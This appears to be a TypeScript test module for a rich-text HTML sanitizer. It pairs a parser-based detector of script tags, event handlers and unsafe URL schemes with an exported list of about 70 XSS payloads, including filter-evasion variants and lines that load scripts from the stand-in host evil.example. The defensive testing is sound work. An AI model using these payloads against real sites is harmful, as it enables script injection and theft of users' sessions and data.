import { Parser } from 'htmlparser2';

// What a stored rich text must never hold, read with a real HTML parser (htmlparser2, entities
// decoded as a browser would): script-capable elements, event handlers, style, and URLs with a
// scheme other than http, https or mailto. Answers one line per finding.
const SCRIPTABLE = new Set([
  'script',
  'style',
  'iframe',
  'frame',
  'frameset',
  'object',
  'embed',
  'applet',
  'svg',
  'math',
  'form',
  'input',
  'button',
  'textarea',
  'select',
  'base',
  'meta',
  'link',
  'template',
  'noscript',
  'video',
  'audio',
  'source',
  'xml',
]);
const URL_ATTRIBUTES = new Set([
  'href',
  'src',
  'action',
  'formaction',
  'xlink:href',
  'srcset',
  'background',
  'poster',
  'data',
  'lowsrc',
  'dynsrc',
]);

export function executableParts(html: string): string[] {
  const found: string[] = [];
  const parser = new Parser(
    {
      onopentag(name, attribs) {
        if (SCRIPTABLE.has(name)) found.push(`<${name}>`);
        for (const [attr, value] of Object.entries(attribs)) {
          if (attr.startsWith('on')) found.push(`${name}[${attr}]`);
          if (attr === 'style') found.push(`${name}[style]`);
          if (URL_ATTRIBUTES.has(attr)) {
            // as a browser reads a URL: control characters and spaces do not hide the scheme
            // eslint-disable-next-line no-control-regex
            const url = value.replace(/[\u0000-\u0020]/g, '').toLowerCase();
            const scheme = /^([a-z][a-z0-9+.-]*):/.exec(url)?.[1];
            if (scheme && !['http', 'https', 'mailto'].includes(scheme)) found.push(`${name}[${attr}=${scheme}:]`);
            if (url.startsWith('//')) found.push(`${name}[${attr}=//]`);
          }
        }
      },
    },
    { decodeEntities: true, lowerCaseTags: true, lowerCaseAttributeNames: true },
  );
  parser.write(html);
  parser.end();
  return found;
}

// At least 50 ways to smuggle script into rich text: script elements, event handlers, javascript:
// and data: URLs, SVG and MathML, nested and malformed markup, entity-encoded and split schemes.
export const XSS_PAYLOADS: readonly string[] = [
  '<script>alert(1)</script>',
  '<SCRIPT SRC=https://evil.example/x.js></SCRIPT>',
  '<script type="module">import("https://evil.example/x.js")</script>',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<<script>script>alert(1)<</script>/script>',
  '<script/x>alert(1)</script>',
  '<img src=x onerror=alert(1)>',
  '<img src="https://cdn.example.jp/a.png" onload="alert(1)">',
  '<IMG SRC="javascript:alert(1);">',
  '<img src=JaVaScRiPt:alert(1)>',
  '<img src="jav&#x09;ascript:alert(1);">',
  '<img src="jav&#x0A;ascript:alert(1);">',
  '<img src="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">',
  '<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">',
  '<img """><script>alert(1)</script>">',
  '<img src=`x` onerror=alert(1)>',
  '<img srcset="x 1x, javascript:alert(1) 2x">',
  '<a href="javascript:alert(1)">click</a>',
  '<a href="JAVASCRIPT:alert(1)">click</a>',
  '<a href=" javascript:alert(1)">click</a>',
  '<a href="java\tscript:alert(1)">click</a>',
  '<a href="java&#09;script:alert(1)">click</a>',
  '<a href="&#x6A;avascript:alert(1)">click</a>',
  '<a href="&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058alert(1)">x</a>',
  '<a href="javascript&colon;alert(1)">click</a>',
  '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">click</a>',
  '<a href="vbscript:msgbox(1)">click</a>',
  '<a href="//evil.example/">protocol-relative</a>',
  '<a href="https://example.jp" onclick="alert(1)" onmouseover="alert(1)">x</a>',
  '<a href="https://example.jp" target="_self" rel="opener">x</a>',
  '<svg onload=alert(1)>',
  '<svg><script>alert(1)</script></svg>',
  '<svg><animate onbegin=alert(1) attributeName=x dur=1s>',
  '<svg><a xlink:href="javascript:alert(1)"><text x="20" y="20">x</text></a></svg>',
  '<svg><foreignObject><iframe src="javascript:alert(1)"></iframe></foreignObject></svg>',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>',
  '<math href="javascript:alert(1)">x</math>',
  '<iframe src="javascript:alert(1)"></iframe>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<object data="javascript:alert(1)"></object>',
  '<embed src="data:text/html,<script>alert(1)</script>">',
  '<form action="javascript:alert(1)"><button>x</button></form>',
  '<button formaction="javascript:alert(1)">x</button>',
  '<input autofocus onfocus=alert(1)>',
  '<details open ontoggle=alert(1)>',
  '<body onload=alert(1)>',
  '<video><source onerror="alert(1)"></video>',
  '<audio src=x onerror=alert(1)>',
  '<marquee onstart=alert(1)>x</marquee>',
  '<div style="position:fixed;top:0;left:0;width:100%;height:100%;background:white">overlay</div>',
  '<p style="background:url(javascript:alert(1))">x</p>',
  '<style>body{display:none}</style>',
  '<link rel="stylesheet" href="https://evil.example/x.css">',
  '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
  '<base href="javascript:alert(1)//">',
  '<table background="javascript:alert(1)"><tr><td>x</td></tr></table>',
  '<td onmouseover=alert(1)>x</td>',
  '<p><b><i onclick=alert(1)>nested</i></b></p>',
  '<div><p><a href="javascript:alert(1)"><img src=x onerror=alert(1)></a></p></div>',
  '<!--<img src="--><img src=x onerror=alert(1)//">',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<template><script>alert(1)</script></template>',
  '<xmp><img src=x onerror=alert(1)></xmp>',
  '<![CDATA[<script>alert(1)</script>]]>',
  '&lt;script&gt;alert(1)&lt;/script&gt;',
  '<h2 onclick="alert(1)" id="x" class="y">heading</h2>',
  '<ul><li onmouseenter=alert(1)>item</li></ul>',
  '<img src=x:alert(alt) onerror=eval(src) alt=0>',
  '"><script>alert(1)</script>',
  "'><img src=x onerror=alert(1)>",
];
